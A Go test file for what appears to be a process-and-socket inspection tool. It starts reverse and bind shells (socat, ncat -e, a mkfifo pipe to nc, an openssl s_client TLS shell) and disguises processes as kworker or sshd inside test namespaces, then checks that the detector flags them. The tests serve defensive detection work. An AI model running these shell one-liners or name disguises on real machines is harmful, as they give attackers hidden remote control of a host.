package app

import (
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/portwarden/portwarden/services/signs"
	"github.com/portwarden/portwarden/sockets"
	"github.com/portwarden/portwarden/sockets/sockettest"
)

// TestShellsOneHopFromASocket runs, in a namespace of its own, the reverse
// and bind shells that keep the shell off the socket — socat with a pty,
// socat's fork/EXEC bind shell, ncat -e both ways, the named-pipe
// pipeline to nc and its TLS twin with openssl s_client — and two name
// disguises (a comm set to kworker/1:1 with prctl, an argv[0] reading
// "sshd: root@notty"). Each is signed where the admin looks (the process
// holding the socket) and fails check with every listener in the
// baseline. Controls stay clean: an SSH login with bash on its pty, an
// admin's nc in tmux, a stock python listener.
func TestShellsOneHopFromASocket(t *testing.T) {
	bed := sockettest.FirewallBedForTest(t)
	for _, bin := range []string{"socat", "ncat", "openssl", "busybox", "tmux", "python3", "bash", "sshd"} {
		if _, err := exec.LookPath(bin); err != nil {
			t.Fatalf("%s is required (scripts/test.sh installs it)", bin)
		}
	}
	peer := nthAddr(bed.PublicNet4.Addr(), 7)
	if err := bed.Public.IP("addr", "add", peer.String()+"/32", "dev", "lo"); err != nil {
		t.Fatal(err)
	}
	// The attacker's listeners, in the peer's namespace: each keeps what
	// connects open.
	var mu sync.Mutex
	var conns []net.Conn
	t.Cleanup(func() {
		mu.Lock()
		defer mu.Unlock()
		for _, c := range conns {
			c.Close()
		}
	})
	for _, port := range []uint16{4501, 4502, 4503, 4505} {
		var ln net.Listener
		if err := bed.Public.Do(func() (err error) {
			ln, err = net.Listen("tcp4", netip.AddrPortFrom(peer, port).String())
			return err
		}); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { ln.Close() })
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				mu.Lock()
				conns = append(conns, c)
				mu.Unlock()
			}
		}()
	}
	dir := t.TempDir()
	run := func(ns *sockettest.Namespace, stdin *os.File, args ...string) *exec.Cmd {
		t.Helper()
		cmd := exec.Command("ip", append([]string{"netns", "exec", ns.Name}, args...)...)
		cmd.Dir = dir
		if stdin != nil {
			cmd.Stdin = stdin
		}
		// A file, so that Wait never waits for what the command's own
		// children (a pipeline's) still hold; the bed ends them.
		errs, err := os.CreateTemp(dir, "stderr-")
		if err != nil {
			t.Fatal(err)
		}
		defer errs.Close()
		cmd.Stderr = errs
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
		return cmd
	}
	// A stdin that stays open; a file, so that Wait never waits on it.
	never, keep, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { never.Close(); keep.Close() })
	attacker := peer.String()

	// A TLS listener for the openssl reverse shell.
	if out, err := exec.Command("openssl", "req", "-x509", "-newkey", "ed25519", "-nodes", "-subj", "/CN=pw", "-days", "1",
		"-keyout", filepath.Join(dir, "k.pem"), "-out", filepath.Join(dir, "c.pem")).CombinedOutput(); err != nil {
		t.Fatalf("openssl req: %v: %s", err, out)
	}
	run(bed.Public, never, "openssl", "s_server", "-quiet", "-accept", attacker+":4504", "-key", "k.pem", "-cert", "c.pem")
	waitListening(t, bed.Public, netip.AddrPortFrom(peer, 4504))

	// Every bash here skips the rc files: root's may run slow set-up (a
	// pyenv rehash, with a lock file) that ending the bed mid-way leaves
	// behind.
	socatPTY := run(bed.Server, nil, "socat", "exec:bash --noprofile --norc -i,pty,stderr,setsid,sigint,sane", "tcp:"+attacker+":4501")
	socatBind := run(bed.Server, nil, "socat", "TCP-LISTEN:4444,reuseaddr,fork", "EXEC:/bin/bash")
	ncatRev := run(bed.Server, nil, "ncat", "-e", "/bin/bash", attacker, "4502")
	ncatBind := run(bed.Server, nil, "ncat", "-l", "-k", "4445", "-e", "/bin/bash")
	fifo := run(bed.Server, nil, "sh", "-c", "rm -f f; mkfifo f; cat f | sh -i 2>&1 | busybox nc "+attacker+" 4503 > f")
	tls := run(bed.Server, nil, "sh", "-c", "rm -f s; mkfifo s; /bin/sh -i < s 2>&1 | openssl s_client -quiet -connect "+attacker+":4504 > s")
	serve := "import socket, time\ns = socket.socket()\ns.bind(('0.0.0.0', 0))\ns.listen()\ntime.sleep(300)"
	kworker := run(bed.Server, nil, "/usr/bin/python3", "-c", "import ctypes\nctypes.CDLL(None).prctl(15, b'kworker/1:1', 0, 0, 0)\n"+serve)
	fakeSSHD := run(bed.Server, nil, "bash", "-c", `exec -a "sshd: root@notty" /usr/bin/python3 -c "$0"`, serve)
	stock := run(bed.Server, nil, "/usr/bin/python3", "-c", serve) // Debian's, packaged
	// The attacker connects to the bind shells.
	for _, port := range []string{"4444", "4445"} {
		var c net.Conn
		sockettest.WaitFor(10*time.Second, func() bool {
			err := bed.Public.Do(func() (err error) {
				c, err = net.Dial("tcp4", net.JoinHostPort(bed.ServerPublic4.String(), port))
				return err
			})
			return err == nil
		})
		if c == nil {
			t.Fatalf("could not connect to the bind shell on %s", port)
		}
		mu.Lock()
		conns = append(conns, c)
		mu.Unlock()
	}

	// Controls: an SSH login with bash on its pty, an admin's nc in tmux.
	sshd, err := sockettest.StartSSHDAt(t.TempDir(), bed.ServerPublic4, bed.Server.Name)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(sshd.Stop)
	waitListening(t, bed.Public, netip.AddrPortFrom(bed.ServerPublic4, uint16(sshd.Port)))
	login := run(bed.Public, never, sshd.SSH(true, "exec", "bash", "--noprofile", "--norc", "-i")...)
	// sshd's own bash -c reads root's .bashrc first: wait until it is done.
	if !sockettest.WaitFor(20*time.Second, func() bool { return runningCmdline("bash\x00--noprofile\x00--norc\x00-i") }) {
		t.Fatalf("the SSH login's bash did not start: %s", stderrOf(login))
	}
	tmux := fmt.Sprintf("pw-shells-%d", os.Getpid())
	run(bed.Server, nil, "tmux", "-L", tmux, "new-session", "-d", "busybox nc "+attacker+" 4505; sleep 300")
	t.Cleanup(func() { exec.Command("ip", "netns", "exec", bed.Server.Name, "tmux", "-L", tmux, "kill-server").Run() })

	a, _ := newApp(t, Options{NetNS: sockets.NetNSFilter(bed.Server.Name)})
	var in *Inspection
	// signed finds the signs on the processes holding a TCP socket with
	// this remote or local port.
	signedAt := func(port uint16) (codes []signs.Code, details []string, holders []string) {
		for _, j := range in.Judged {
			s := j.Socket
			if s.Remote.Port() != port && !(s.Local.Port() == port && !s.Listening()) {
				continue
			}
			for _, p := range s.Processes {
				holders = append(holders, fmt.Sprintf("%s/%d", p.Name, p.PID))
				for _, sg := range in.Signs[p.PID] {
					codes = append(codes, sg.Code)
					details = append(details, sg.Detail)
				}
			}
		}
		return codes, details, holders
	}
	want := map[uint16]signs.Code{4501: signs.ShellNearSocket, 4444: signs.ShellNearSocket, 4502: signs.ShellNearSocket,
		4445: signs.ShellNearSocket, 4503: signs.ShellNearSocket, 4504: signs.ShellNearSocket}
	pidSigns := map[int]signs.Code{kworker.Process.Pid: signs.KernelNameMimic, fakeSSHD.Process.Pid: signs.NameMismatch}
	allThere := func() bool {
		for port, code := range want {
			if c, _, _ := signedAt(port); !slices.Contains(c, code) {
				return false
			}
		}
		for pid, code := range pidSigns {
			if !slices.ContainsFunc(in.Signs[pid], func(s signs.Sign) bool { return s.Code == code }) {
				return false
			}
		}
		_, _, ssh := signedAt(uint16(sshd.Port)) // the controls are up too
		_, _, nc := signedAt(4505)
		return len(ssh) > 0 && len(nc) > 0
	}
	sockettest.WaitFor(20*time.Second, func() bool {
		if in, err = a.Inspect(sockets.Query{}); err != nil {
			t.Fatal(err)
		}
		return allThere()
	})
	for port, code := range want {
		if c, d, h := signedAt(port); !slices.Contains(c, code) {
			t.Errorf("the shell behind port %d (held by %v): signs %v %q, want %s", port, h, c, d, code)
		}
	}
	for pid, code := range pidSigns {
		if !slices.ContainsFunc(in.Signs[pid], func(s signs.Sign) bool { return s.Code == code }) {
			t.Errorf("pid %d: signs %+v, want %s", pid, in.Signs[pid], code)
		}
	}
	// ncat -e leaves the TCP socket open in bash too: a shell holding it.
	if c, d, _ := signedAt(4502); !slices.Contains(c, signs.ShellOnSocket) {
		t.Errorf("ncat -e: the shell holding the connection is not signed: %v %q", c, d)
	}
	// The bind shells name the listener that started them.
	if _, d, _ := signedAt(4444); !strings.Contains(strings.Join(d, ";"), "which serves tcp 0.0.0.0:4444") {
		t.Errorf("socat's bind shell does not name its listener: %q", d)
	}
	_ = []*exec.Cmd{socatPTY, socatBind, ncatRev, ncatBind, fifo, tls}

	// Controls.
	if len(in.Signs[stock.Process.Pid]) > 0 {
		t.Errorf("a stock python listener is signed: %+v", in.Signs[stock.Process.Pid])
	}
	if c, d, h := signedAt(uint16(sshd.Port)); len(h) == 0 || len(c) > 0 {
		t.Errorf("an SSH login with bash on its pty: held by %v, signs %v %q; want held and clean (ssh said %s)", h, c, d, stderrOf(login))
	}
	if c, d, h := signedAt(4505); len(h) == 0 || len(c) > 0 {
		t.Errorf("an admin's nc in tmux: held by %v, signs %v %q; want held and clean", h, c, d)
	}

	// Every listener in the baseline: the check still fails on the shells.
	sum, check := checkWithListenersBaselined(t, a, in)
	if sum.OK() {
		t.Errorf("check passes after baseline init:\n%s", check)
	}
	for _, word := range []string{"shell-near-socket", "kernel-name-mimic", "name-mismatch", "unexpected listeners"} {
		if strings.Contains(check, word) == (word == "unexpected listeners") {
			t.Errorf("check after baseline init: %q should%s be there:\n%s", word, map[bool]string{true: " not", false: ""}[word == "unexpected listeners"], check)
		}
	}
}

// stderrOf is what a command run by the test wrote to its stderr file.
func stderrOf(cmd *exec.Cmd) string {
	f, ok := cmd.Stderr.(*os.File)
	if !ok {
		return ""
	}
	b, _ := os.ReadFile(f.Name())
	return string(b)
}

// waitListening waits until something in ns accepts connections at ap.
func waitListening(t *testing.T, ns *sockettest.Namespace, ap netip.AddrPort) {
	t.Helper()
	up := sockettest.WaitFor(10*time.Second, func() bool {
		return ns.Do(func() error {
			c, err := net.Dial("tcp4", ap.String())
			if err == nil {
				c.Close()
			}
			return err
		}) == nil
	})
	if !up {
		t.Fatalf("nothing listens on %s", ap)
	}
}

// runningCmdline reports whether a process runs with exactly this
// command line (arguments NUL-separated).
func runningCmdline(cmdline string) bool {
	dirs, _ := os.ReadDir("/proc")
	for _, d := range dirs {
		if b, err := os.ReadFile("/proc/" + d.Name() + "/cmdline"); err == nil && strings.TrimRight(string(b), "\x00") == cmdline {
			return true
		}
	}
	return false
}
